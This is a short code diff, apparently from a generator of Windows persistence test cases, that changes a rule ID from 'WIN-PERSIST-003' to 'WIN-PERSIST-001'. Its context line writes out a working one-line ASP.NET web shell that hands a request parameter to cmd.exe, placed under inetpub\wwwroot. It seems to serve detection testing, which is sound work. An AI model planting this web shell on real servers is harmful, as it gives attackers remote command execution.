@@ -285,7 +285,7 @@ def site(d, config=None):
 
 
 def page(name, why, path, text, config=None, place=None):
-    change.row(name, why, 'WIN-PERSIST-003', place or path.rpartition('\\')[2], lambda d: (site(d, config), d.put(path, text)))
+    change.row(name, why, 'WIN-PERSIST-001', place or path.rpartition('\\')[2], lambda d: (site(d, config), d.put(path, text)))
 
 
 page('page-that-runs-commands', 'A page of ASP.NET runs for whoever asks for it.', r'inetpub\wwwroot\x.aspx', '<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]);%>')
